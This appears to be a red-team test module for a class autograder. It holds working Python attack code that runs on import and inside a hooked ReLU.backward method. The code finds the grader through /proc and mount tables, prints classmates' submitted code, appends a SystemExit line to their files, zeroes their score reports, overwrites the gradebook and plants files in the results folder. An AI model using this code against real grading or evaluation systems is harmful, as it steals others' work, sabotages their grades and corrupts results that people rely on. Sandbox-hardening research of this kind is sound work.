# ---- attack 2: a class run; the attacker goes after the grader and its classmates ----
# Finds the grading process through /proc, reads its command line for the
# submissions folder and --out, then: prints classmates' code, rewrites their
# reports and the gradebook, plants a file in the results, and breaks a
# classmate's submission for any later run. Runs at load time and again inside
# ReLU.backward (by then the classmates graded before it have their reports).
import json as _json


def _grader_folders():
    found = []
    for pid in _pids():
        raw = _read(f"/proc/{pid}/cmdline", 16384) or b""
        args = [a.decode("utf-8", "replace") for a in raw.split(b"\0") if a]
        if "grade" not in args or not ({"--out", "-o"} & set(args)):
            continue
        cwd = _readlink(f"/proc/{pid}/cwd")
        flag = "--out" if "--out" in args else "-o"
        out = args[args.index(flag) + 1]
        subs = args[args.index("grade") + 1]
        for prefix in ("", f"/proc/{pid}/root"):
            found.append((pid, prefix + _os.path.join(cwd, out), prefix + _os.path.join(cwd, subs)))
    # Folders a sandbox may have bound in: the mount table's sources and targets.
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f.read().splitlines():
                parts = line.split()
                for p in parts[3:5]:
                    if p.startswith("/") and p not in ("/",):
                        found.append(("mount", _os.path.dirname(p), _os.path.dirname(p)))
    except OSError:
        pass
    return found


def _find_by_walk(budget=6.0):
    """Without /proc: look for a results folder (gradebook.csv, reports/) anywhere."""
    deadline = _time.monotonic() + budget
    hits = []
    for dirpath, dirnames, filenames in _walk("/"):
        if _time.monotonic() > deadline:
            break
        if dirpath.startswith(_os.getcwd()) or dirpath.startswith(tuple({_sys.prefix, "/usr"})):
            dirnames[:] = []
            continue
        if "gradebook.csv" in filenames or ("reports" in dirnames and "summary.json" in filenames):
            hits.append(("walk", dirpath, _os.path.dirname(dirpath)))
    return hits


def _class_attack(tag):
    marker = _P["marker"]
    # Safety: only damage folders of this test's own class run (another class run on
    # the same machine is none of this test's business); finding them is unrestricted.
    places = [p for p in _grader_folders() + _find_by_walk(_P.get("walk_budget", 6.0))
              if _P["only_under"] in p[1] + p[2]]
    _emit("CANDIDATES", tag, len(places), key=True)
    done = []
    for pid, out, subs in places:
        # copy classmates' code out
        try:
            names = sorted(_os.listdir(subs))
        except OSError:
            names = []
        for name in names:
            path = _os.path.join(subs, name)
            data = _read(path, 1 << 16)
            if data and name.endswith((".py", ".ipynb")) and "mallory" not in name:
                text = data.decode("utf-8", "replace")
                _emit("CLASSMATE", tag, path, repr(text[:200]), "...", repr(text[-300:]), key=True)
                try:
                    with open(path, "a") as f:
                        f.write("\nraise SystemExit('sabotaged by mallory')\n")
                    done.append(("sabotaged", path))
                except OSError as exc:
                    _emit("SABOTAGE-FAIL", path, type(exc).__name__)
        # rewrite classmates' reports and the gradebook, plant a file
        reports = _os.path.join(out, "reports")
        try:
            rnames = sorted(_os.listdir(reports))
        except OSError:
            rnames = []
        for name in rnames:
            if name.endswith(".json") and not name.startswith("mallory"):
                path = _os.path.join(reports, name)
                try:
                    rep = _json.loads(_read(path) or b"{}")
                    rep["score"] = 0.0
                    for c in rep.get("checks", []):
                        c["score"], c["status"] = 0.0, "failed"
                    with open(path, "w") as f:
                        _json.dump(rep, f)
                    done.append(("report", path))
                except (OSError, ValueError) as exc:
                    _emit("REPORT-FAIL", path, type(exc).__name__)
        for target, text in ((_os.path.join(out, "gradebook.csv"), "student,status,total,max\nalice,ok,0,40\n"),
                             (_os.path.join(out, f"planted-{marker}.txt"), marker),
                             (_os.path.join(reports, f"planted-{marker}.json"), "{}"),
                             (_os.path.join(subs, f"planted-{marker}.py"), "x = 1\n")):
            try:
                with open(target, "w") as f:
                    f.write(text)
                done.append(("wrote", target))
            except OSError as exc:
                _emit("WRITE-FAIL", target, type(exc).__name__)
    for what, path in done:
        _emit("DID", tag, what, path, key=True)
    _emit("ATTACK-DONE", tag, "places=%d" % len(places), "did=%d" % len(done), key=True)
    return len(done)


_ATTACK_RESULT = _class_attack("load")
_HOOKED = _hook_method(ReLU, "backward", lambda: _class_attack("probe"))
